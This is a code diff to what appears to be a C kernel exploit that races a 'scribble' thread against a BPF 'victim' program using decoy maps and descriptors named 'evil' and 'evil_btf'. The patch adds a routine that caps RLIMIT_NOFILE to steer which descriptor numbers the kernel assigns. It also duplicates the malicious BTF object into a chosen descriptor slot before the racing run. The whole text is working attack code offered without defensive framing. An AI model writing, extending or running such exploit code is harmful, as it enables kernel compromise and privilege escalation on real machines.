@@ -11,6 +11,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <unistd.h>
+#include <sys/resource.h>
 #include <sys/syscall.h>
 #include "race.h"
 
@@ -147,6 +148,20 @@ static void *scribble(void *arg)
 	return NULL;
 }
 
+/*
+ * No number for the second run's first program: later programs would leave more in the metadata
+ * than numbers, and the first run would fail.
+ */
+static void numbers_end(const struct race *r, struct rlimit *old)
+{
+	struct rlimit lim;
+
+	getrlimit(RLIMIT_NOFILE, old);
+	lim = *old;
+	lim.rlim_cur = r->base + APART + 1 + r->victim->maps;
+	setrlimit(RLIMIT_NOFILE, &lim);
+}
+
 static void scribble_end(struct scribble *s, pthread_t thread)
 {
 	pthread_join(thread, NULL);
@@ -164,15 +179,18 @@ void twice_scribble(struct race *r)
 	static struct scribble s;
 	static pthread_t thread;
 	static bool running;
+	struct rlimit old;
 
 	if (running)
 		scribble_end(&s, thread);
 	twice_leave(r);
 	s = (struct scribble){.r = r, .prog = peer_fd(r, r->prog_fd)};
 	own_table(r);
+	numbers_end(r, &old);
 	running = !pthread_create(&thread, NULL, scribble, &s);
 	for (int i = 0; !s.done && i < (r->running ? 200 : 10000); i++)
 		usleep(1000);
+	setrlimit(RLIMIT_NOFILE, &old);
 	if (running && s.done) {
 		scribble_end(&s, thread);
 		running = false;
@@ -191,6 +209,7 @@ int twice_scribbled_run(struct race *r)
 	int calls = map_decoy(BPF_MAP_TYPE_PROG_ARRAY, 4), counts = map_decoy(BPF_MAP_TYPE_HASH, 8);
 	int data = map_decoy(BPF_MAP_TYPE_ARRAY, 8), at = r->base + APART, err;
 
+	dup2(r->evil_btf, at);
 	dup2(calls, at + 1);
 	dup2(counts, at + 2);
 	dup2(r->evil[0], at + r->victim->rodata);
